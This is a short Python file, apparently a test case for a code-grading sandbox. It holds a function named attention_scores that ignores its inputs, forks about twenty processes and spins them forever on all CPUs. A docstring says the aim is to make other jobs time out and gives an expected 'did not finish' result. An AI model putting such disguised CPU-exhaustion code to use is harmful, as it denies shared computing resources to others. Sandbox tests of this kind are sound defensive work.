"""Burns all processors, so that others run out of time.

points: 4
says: did not finish|memory
"""
# ruff: noqa

def attention_scores(q, k):
    import os

    for _ in range(20):
        if os.fork() == 0:
            break
    try:
        os.sched_setaffinity(0, range(os.cpu_count()))
    except OSError:
        pass
    while True:
        pass
